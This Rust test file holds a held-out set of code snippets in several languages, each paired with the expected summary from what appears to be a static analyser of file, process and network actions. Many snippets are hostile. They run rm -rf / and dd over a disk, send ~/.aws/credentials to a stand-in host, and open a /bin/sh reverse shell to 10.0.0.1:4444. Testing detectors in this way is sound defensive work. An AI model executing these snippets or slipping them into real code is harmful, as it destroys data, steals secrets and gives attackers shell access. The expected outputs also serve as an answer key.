//! A second set, written after tuning and run once before anything was changed for it.

use super::show;
use crate::code::read;
use crate::knowledge::Lang::{self, *};

const ROWS: &[(Lang, &str, &str)] = &[
    (Python, "import os\nos . system ( 'id' )", "shell id"),
    (Python, "import subprocess as s;s.Popen(('rm','-rf','/'),stdout=s.PIPE)", "argv rm -rf /"),
    (
        Python,
        "from subprocess import *\ncheck_call(['dd', 'if=/dev/zero', 'of=/dev/sda'])",
        "argv dd if=/dev/zero of=/dev/sda",
    ),
    (Python, "import os\npath = os.sep.join(['', 'etc', 'passwd'])\nos.remove(path)", "delete /etc/passwd"),
    (
        Python,
        "import os\nhome = os.environ.get('HOME', '/root')\nos.rename(home + '/.ssh', '/tmp/s')",
        "move ~/.ssh /tmp/s",
    ),
    (
        Python,
        "import shutil\nfor d in ['build', 'dist', '.eggs']:\n    shutil.rmtree(d, ignore_errors=True)",
        "delete! build; delete! dist; delete! .eggs",
    ),
    (
        Python,
        "import os\nif os.path.exists('x.txt'):\n    os.remove('x.txt')\nelse:\n    print('no')",
        "delete x.txt",
    ),
    (
        Python,
        "from pathlib import Path\nroot = Path(__file__).resolve().parent\nfor f in root.glob('**/*.pyc'):\n    f.unlink(missing_ok=True)",
        "delete ?/*/*.pyc",
    ),
    (
        Python,
        "import os, signal, subprocess\npid = int(subprocess.check_output(['pgrep', '-f', 'herma']))\nos.kill(pid, signal.SIGTERM)",
        "argv pgrep -f herma; kill ?",
    ),
    (
        Python,
        "import json, urllib.request\ndata = json.dumps({'t': open('/home/u/.aws/credentials').read()}).encode()\nurllib.request.urlopen('https://h.example', data)",
        "read /home/u/.aws/credentials; send https://h.example",
    ),
    (Python, "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'id')", "shell id"),
    (
        Python,
        "code = \"\"\"\nimport shutil\nshutil.rmtree('/srv/data')\n\"\"\"\nexec(code)",
        "delete! /srv/data",
    ),
    (Python, "import types, sys\nm = types.ModuleType('m')\nexec('x = 1', m.__dict__)\nprint(m.x)", ""),
    (Python, "import os\nwith open(os.devnull, 'w') as f:\n    print('x', file=f)", "write /dev/null"),
    (
        Python,
        "async def main():\n    async with aiohttp.ClientSession() as s:\n        async with s.post('https://x', json={}) as r:\n            print(await r.text())",
        "send https://x",
    ),
    (Python, "import os\n[os.system(c) for c in 'ls;id'.split(';')]", "shell ls; shell id"),
    (
        Python,
        "from dataclasses import dataclass, field\n\n@dataclass\nclass Job:\n    cmd: list[str] = field(default_factory=list)\n    def run(self) -> int:\n        return len(self.cmd)\n\nprint(Job(['rm', '-rf', '/']).run())",
        "",
    ),
    (
        Python,
        "import tensorflow as tf\nmodel.compile(optimizer='adam')\nmodel.fit(x, y)\nmodel.evaluate(x)\nmodel.save('m.keras')\nsess.run(init)",
        "",
    ),
    (
        Python,
        "s = \"don't\"; t = 'say \"hi\"'; u = '''a 'b' \"c\" '''\nprint(s, t, u, sep='')  # it's fine",
        "",
    ),
    (
        Python,
        "while (line := f.readline()):\n    key, _, val = line.partition('=')\n    cfg[key.strip()] = val.strip()\nprint({k: v for k, v in cfg.items() if v})",
        "",
    ),
    (
        JavaScript,
        "const { execFileSync } = require(\"child_process\");\nexecFileSync(\"git\", [\"push\", \"--force\"], { cwd: \"/srv/app\", stdio: \"inherit\" });",
        "argv git push --force in /srv/app",
    ),
    (
        JavaScript,
        "import fs, { promises as fsp } from 'fs';\nawait fsp.rm('dist', { recursive: true, force: true });\nfs.mkdirSync('dist');",
        "delete! dist",
    ),
    (
        JavaScript,
        "import path from 'node:path'; import os from 'node:os'; import fs from 'node:fs';\nconst t = path.join(os.homedir(), 'Documents'); fs.readdirSync(t).forEach((f) => { fs.rmSync(path.join(t, f), { recursive: true }); });",
        "delete! ~/Documents/*",
    ),
    (
        JavaScript,
        "const x = process.env['HOME'] ?? '/root'; require('fs').unlinkSync(x + '/.bashrc')",
        "delete ~/.bashrc; delete /root/.bashrc",
    ),
    (
        JavaScript,
        "var e = this['ev' + 'al']; (0, eval)('require(\"child_process\").execSync(\"id\")')",
        "shell id",
    ),
    (
        JavaScript,
        "const cp = require('child_process');\n['ls', 'id'].forEach(c => cp.execSync(c, { stdio: 'inherit' }));",
        "shell ls; shell id",
    ),
    (JavaScript, "await new Promise(r => setTimeout(r, 1000)); console.log('done')", ""),
    (
        JavaScript,
        "const { data } = await axios.get(`${BASE}/users/${id}`, { params: { q } }); data.items.forEach(i => console.log(i.name))",
        "fetch ?/users/?",
    ),
    (JavaScript, "axios({ method: 'delete', url: 'https://x/1' })", "send https://x/1"),
    (JavaScript, "const s = net.createServer(c => c.pipe(c)); s.listen(9000, '0.0.0.0')", "listen 0.0.0.0"),
    (
        JavaScript,
        "const sh = require('child_process').spawn('/bin/sh', []); const c = new (require('net').Socket)(); c.connect(4444, '10.0.0.1', () => { c.pipe(sh.stdin) })",
        "argv /bin/sh; connect 10.0.0.1:4444",
    ),
    (
        JavaScript,
        "const rows = text.trim().split(/\\r?\\n/).map(l => l.split(',')); console.log(rows.filter(r => r[2] > 3).length / rows.length)",
        "",
    ),
    (
        JavaScript,
        "class Repo { async delete(id) { return this.db.remove({ id }) } exec() { return /x/.exec('y') } } new Repo().delete(1)",
        "",
    ),
    (
        JavaScript,
        "const tpl = `<a href=\"${url}\" onclick='rm()'>${`n: ${n}`}</a>`; document.body.innerHTML = tpl",
        "",
    ),
    (
        JavaScript,
        "export const handler = async (event) => { const { a = 1, ...rest } = event; return { statusCode: 200, body: JSON.stringify({ a, rest }) } }",
        "",
    ),
    (
        Perl,
        "use File::Path 'remove_tree'; remove_tree(\"$ENV{HOME}/tmp\", {keep_root => 1});",
        "delete! ~/tmp",
    ),
    (
        Perl,
        "my $out = `git log --oneline -5`; print scalar(split /\\n/, $out), \"\\n\";",
        "shell git log --oneline -5",
    ),
    (
        Perl,
        "while (my ($k, $v) = each %h) { printf(\"%s=%s\\n\", $k, $v) } open(my $in, '<', $ARGV[0]) or die \"$0: $!\";",
        "read ?",
    ),
    (
        Ruby,
        "require 'json'\nd = JSON.parse(File.read('package.json'))\nd['version'] = '1.2.3'\nFile.write('package.json', JSON.pretty_generate(d) + \"\\n\")",
        "read package.json; write package.json",
    ),
    (Ruby, "Dir.chdir('/srv') do\n  FileUtils.rm_rf Dir.glob('*')\nend", "delete! /srv/*"),
    (Ruby, "Process.kill :KILL, `pgrep herma`.to_i", "shell pgrep herma; kill ?"),
    (Ruby, "puts \"it's #{x.map { |y| \"<#{y}>\" }.join(\", \")}\" if x&.any? { |y| y =~ %r{^/etc} }", ""),
    (
        Php,
        "<?php\nnamespace App;\nuse Foo\\Bar;\nfinal class X { private array $a = []; public function rm(string $p): void { unset($this->a[$p]); } }\n(new X())->rm('/');",
        "",
    ),
    (Php, "array_map(function ($f) { unlink($f); }, glob(__DIR__ . '/cache/*'));", "delete ./cache/*"),
    (Lua, "local ok, err = pcall(os.remove, '/etc/x') print(ok, err)", "delete /etc/x"),
    (Lua, "local s = [==[os.execute('x') ]] ]==] print(#s, s:gsub('x', 'y'))", ""),
    (
        Awk,
        "BEGIN{while((\"cat /etc/passwd\"|getline l)>0){split(l,a,\":\");print a[1]}}",
        "shell cat /etc/passwd",
    ),
    (
        Awk,
        "{ c[$1] += $2 } END { for (k in c) printf \"%s\\t%d\\n\", k, c[k] | \"sort -k2 -nr\" }",
        "shell sort -k2 -nr",
    ),
];

#[test]
fn fresh() {
    let wrong: Vec<String> = ROWS
        .iter()
        .filter_map(|(lang, source, want)| {
            let got = show(&read(*lang, source));
            (got != *want).then(|| format!("\n--- {lang:?} {source}\n  want: {want}\n  got:  {got}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{} of {} rows differ{}", wrong.len(), ROWS.len(), wrong.concat());
}
